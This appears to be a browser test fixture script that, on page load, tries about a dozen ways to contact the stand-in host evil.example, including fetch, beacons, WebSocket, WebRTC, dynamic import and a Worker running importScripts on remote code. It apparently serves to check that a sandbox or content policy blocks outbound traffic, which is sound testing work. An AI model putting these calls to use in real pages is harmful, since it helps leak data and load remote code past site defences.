/* The ways of elsewhere.html that need a script. Runs as: the page's origin. */
"use strict";
(async function () {
  const EVIL = "https://evil.example";
  const WAIT_MILLISECONDS = 1500;
  const worker = new Blob([`fetch("${EVIL}/worker", { mode: "no-cors" }).catch(() => {});
    try { importScripts("${EVIL}/worker-script"); } catch (error) {}`], { type: "text/javascript" });
  const attempts = [
    () => fetch(`${EVIL}/fetch`, { mode: "no-cors" }),
    () => fetch(`${EVIL}/keepalive`, { mode: "no-cors", keepalive: true }),
    () => { const request = new XMLHttpRequest(); request.open("GET", `${EVIL}/xhr`); request.send(); },
    () => navigator.sendBeacon(`${EVIL}/beacon`, "1"),
    () => new WebSocket("wss://evil.example/socket"),
    () => new EventSource(`${EVIL}/events`),
    () => { new Image().src = `${EVIL}/new-image`; },
    () => import(`${EVIL}/dynamic-import`),
    () => new Worker(URL.createObjectURL(worker)),
    () => new FontFace("other", `url(${EVIL}/font-face)`).load(),
    () => new RTCPeerConnection({ iceServers: [{ urls: "stun:evil.example" }] }).createDataChannel("x"),
    () => window.open(`${EVIL}/open-without-click`),
  ];
  document.getElementById("open").addEventListener("click", () => window.open(`${EVIL}/open`));
  document.getElementById("go").addEventListener("click", () => { location.href = `${EVIL}/location`; });
  await Promise.allSettled(attempts.map(async (attempt) => attempt()));
  setTimeout(() => { document.title = "Ailleurs : fini"; }, WAIT_MILLISECONDS);
})();
